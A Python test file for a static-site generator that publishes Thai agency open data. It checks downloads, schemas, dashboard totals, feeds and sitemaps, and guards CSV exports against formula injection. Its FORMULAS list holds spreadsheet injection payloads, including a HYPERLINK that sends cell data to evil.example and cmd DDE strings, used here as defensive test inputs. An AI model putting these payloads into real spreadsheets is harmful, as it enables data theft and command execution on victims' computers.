"""Open data: every download reachable, valid against its schema, and equal to what pages show."""

from __future__ import annotations

import csv
import io
import json
import xml.dom.minidom
from pathlib import Path
from urllib.parse import urljoin, urlparse
from xml.etree import ElementTree

import jsonschema
import pytest
from frictionless import Package

from generator.build import build_site
from generator.render.opendata import TABLES, spreadsheet_safe
from generator.schema import schema_of
from tests.conftest import CONTENT, SITE, page
from tests.hostile import project_folder, rewrite_texts


def downloads(built_site: Path, prefix: str = "") -> set[str]:
    html = page(built_site, prefix + "data/")
    base = f"http://site/{prefix}data/"
    return {urlparse(urljoin(base, str(a["href"]))).path.lstrip("/") for a in html.select("a[download]")}


def test_every_download_is_listed_on_the_data_page_and_exists(built_site: Path) -> None:
    listed = downloads(built_site)
    assert listed == downloads(built_site, "en/")
    expected = {f"data/{t.name}.csv" for t in TABLES} | {"data/datapackage.json"}
    expected |= {f"agencies/{a.slug}/{y}.json" for a in SITE.agencies for y in a.years}
    expected |= {f"agencies/{a.slug}/agency.json" for a in SITE.agencies}
    expected |= {"schema/agency.schema.json", "schema/report.schema.json"}
    assert listed == expected
    assert all((built_site / path).is_file() for path in listed)


def test_every_report_page_links_to_its_json(built_site: Path) -> None:
    for agency in SITE.agencies:
        for year in agency.years:
            link = page(built_site, f"en/agencies/{agency.slug}/{year}/").select_one(".c3-download a")
            target = urlparse(
                urljoin(f"http://site/en/agencies/{agency.slug}/{year}/", str(link["href"]))
            ).path
            assert target == f"/agencies/{agency.slug}/{year}.json"


def test_every_json_download_validates_against_the_published_schema(built_site: Path) -> None:
    for agency in SITE.agencies:
        data = json.loads((built_site / f"agencies/{agency.slug}/agency.json").read_text(encoding="utf-8"))
        jsonschema.Draft202012Validator(schema_of("agency")).validate(data)
        for year in agency.years:
            report = json.loads(
                (built_site / f"agencies/{agency.slug}/{year}.json").read_text(encoding="utf-8")
            )
            jsonschema.Draft202012Validator(schema_of("report")).validate(report)
            first = report["listening_channels"][0]["statistics"] if report.get("listening_channels") else {}
            assert all(isinstance(count, int) for count in first.values()), "counts are numbers"


def test_the_data_package_is_valid_and_its_csv_open_as_thai_in_spreadsheets(built_site: Path) -> None:
    report = Package(str(built_site / "data" / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "note"])[:5]
    for table in TABLES:
        raw = (built_site / "data" / f"{table.name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "a BOM tells spreadsheet programs the file is UTF-8"
        header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert header == [name for name, *_ in table.columns]


def rows(built_site: Path, name: str) -> list[dict[str, str]]:
    text = (built_site / "data" / f"{name}.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_totals_equal_the_dashboards(built_site: Path) -> None:
    html = page(built_site, "dashboard/")
    channels = html.select_one("#channels").find_next("table")
    years = [int(th.get_text().split()[-1]) for th in channels.select("thead th")[1:]]
    assert years
    for row in channels.select("tbody tr"):
        shown = [td.get_text().replace(",", "") for td in row.select("td")]
        for year, value in zip(years, shown, strict=True):
            same = [
                r for r in rows(built_site, "channel_statistics") if r["channel_kind"] == row["data-channel"]
            ]
            summed = sum(int(r["users"]) for r in same if int(r["fiscal_year"]) == year)
            assert str(summed) == value or (value == "–" and summed == 0)
    table = html.select_one("#levels").find_next("table")
    levels = {tr["data-level"]: int(tr.td.get_text()) for tr in table.select("tbody tr")}
    assert len(levels) == 5
    activity_rows = rows(built_site, "participation_activities")
    latest = {(a.slug, a.latest_year) for a in SITE.agencies}
    for level, count in levels.items():
        assert count == sum(
            r[level] == "true" for r in activity_rows if (r["agency"], int(r["report_year"])) in latest
        )


def test_csv_rows_match_the_content(built_site: Path) -> None:
    services = rows(built_site, "services")
    expected = sum(
        len(chart.steps)
        for a in SITE.agencies
        for r in a.reports.values()
        for chart in r.service_standards.flowcharts
    )
    assert len(services) == expected
    land = [r for r in services if r["agency"] == "ratchaburi-land-office" and r["service_number"] == "1"]
    assert land[0]["action"] == "รับบัตรคิวและตรวจเอกสารเบื้องต้น"
    assert land[0]["total_time"] == "1 ชั่วโมง 20 นาที" and land[0]["fee"].startswith("ค่าธรรมเนียมการโอน")


def test_the_dashboard_lists_completeness_per_report_and_who_has_not_reported(built_site: Path) -> None:
    html = page(built_site, "dashboard/")
    reported = [
        (tr["data-slug"], int(tr["data-year"])) for tr in html.select("table[data-sortable] tbody tr")
    ]
    assert sorted(reported) == sorted((a.slug, y) for a in SITE.agencies for y in a.years)
    assert "ทุกหน่วยงานส่งรายงานแล้ว" in html.select_one("#missing").find_next("p").get_text()


def test_the_feed_and_the_sitemap_parse_and_pair_languages(built_site: Path) -> None:
    feed = xml.dom.minidom.parse(str(built_site / "feed.xml"))
    assert len(feed.getElementsByTagName("entry")) == sum(len(a.years) for a in SITE.agencies)
    sitemap = xml.dom.minidom.parse(str(built_site / "sitemap.xml"))
    locations = [n.firstChild.data for n in sitemap.getElementsByTagName("loc")]
    assert "https://c3.ratchaburi.example.go.th/agencies/ratchaburi-land-office/2569/" in locations
    assert "https://c3.ratchaburi.example.go.th/en/agencies/ratchaburi-land-office/2569/" in locations
    alternates = sitemap.getElementsByTagName("xhtml:link")
    assert len(alternates) == 2 * len(locations)


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"คลิก")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "   =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "ข้อ;=1+1,=2+2",
]
XML_NAME = "=สำนักงาน & <b>ทดสอบ</b> ]]> \"คำพูด\" 'เดี่ยว'"


def formula_content(folder: Path) -> Path:
    """The land office with a formula, or XML's own characters, at the start of every text it has."""

    def text(count: int) -> tuple[str, str]:
        payload = FORMULAS[count % len(FORMULAS)]
        return f"{payload} ข้อ {count}", f"{payload} item {count}"

    name = (XML_NAME, "@Formula & <Office> ]]> \"q\" 'a'")
    rewrite_texts(CONTENT / "ratchaburi-land-office", folder / "formula-office", text, name)
    return folder


@pytest.fixture(scope="module")
def formula_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real build of one agency whose every text starts like a spreadsheet formula."""
    project = project_folder(tmp_path_factory.mktemp("formula"))
    content = formula_content(project / "content" / "agencies")
    site = project / "site"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NO_MKDOCS_2_WARNING", "1")
        assert build_site(project / "mkdocs.yml", site, content) == 0
    return site


def runs_as_formula(cell: str) -> bool:
    return bool(cell) and (cell[0] in "\t\r\n" or cell.lstrip()[:1] in set("=+-@＝＋－＠"))


def test_no_csv_cell_runs_as_a_formula_in_a_spreadsheet(formula_site: Path) -> None:
    for table in TABLES:
        text = (formula_site / "data" / f"{table.name}.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 1, f"{table.name}: the hostile agency has rows here"
        kinds = [kind for _, kind, *_ in table.columns]
        quoted = 0
        for row in rows[1:]:
            for cell, kind in zip(row, kinds, strict=True):
                assert not runs_as_formula(cell), (table.name, cell)
                if kind == "integer":
                    assert cell == "" or cell.isdigit(), (table.name, cell)
                if cell.startswith("'") and runs_as_formula(cell[1:]):
                    quoted += 1
        assert quoted, f"{table.name}: the formulas are kept as text behind a quote"
        numbers = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
        for row in list(numbers)[1:]:  # unquoted cells read as numbers: only the counts and years
            for cell, kind in zip(row, kinds, strict=True):
                assert isinstance(cell, float if kind == "integer" and cell != "" else str), (
                    table.name,
                    cell,
                )


def test_json_downloads_keep_the_exact_text_and_the_data_page_says_csv_differs(formula_site: Path) -> None:
    agency = json.loads((formula_site / "agencies/formula-office/agency.json").read_text(encoding="utf-8"))
    assert agency["name"]["th"] == XML_NAME
    report = json.loads((formula_site / "agencies/formula-office/2569.json").read_text(encoding="utf-8"))
    texts = [
        step["action"]["th"] for chart in report["service_standards"]["flowcharts"] for step in chart["steps"]
    ]
    assert all(text.startswith(tuple(f.strip() for f in FORMULAS)) for text in texts), texts
    assert not any(text.startswith("'") for text in texts)
    for prefix, words in (("", "JSON"), ("en/", "exact text")):
        note = page(formula_site, prefix + "data/").select_one(".c3-csv-formulas")
        assert note is not None and "= + - @" in note.get_text() and words in note.get_text()


def test_the_feed_and_the_sitemap_stay_xml_with_xmls_own_characters_in_a_name(formula_site: Path) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    feed = ElementTree.parse(formula_site / "feed.xml").getroot()
    titles = [entry.findtext(f"{atom}title") or "" for entry in feed.iter(f"{atom}entry")]
    assert titles and titles[0].startswith(XML_NAME + " · ")
    sitemap = ElementTree.parse(formula_site / "sitemap.xml").getroot()
    locations = [loc.text for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert any((loc or "").endswith("/agencies/formula-office/2569/") for loc in locations)


def test_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\tx", " =1", "\u3000＝1", "＋1", "－1", "＠A1"):
        assert spreadsheet_safe(text) == "'" + text
    for value in ("ราชบุรี", "1-2", "a=b", "", "'=1", "–1"):
        assert spreadsheet_safe(value) == value
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(1450) == 1450


def test_search_engines_find_the_sitemap_in_robots_txt(built_site: Path) -> None:
    """A crawler asking for /robots.txt gets the sitemap's address, not a 404 (Lighthouse SEO)."""
    robots = (built_site / "robots.txt").read_text(encoding="utf-8").splitlines()
    assert "User-agent: *" in robots
    assert "Sitemap: https://c3.ratchaburi.example.go.th/sitemap.xml" in robots
    assert not (built_site / "en" / "robots.txt").exists()
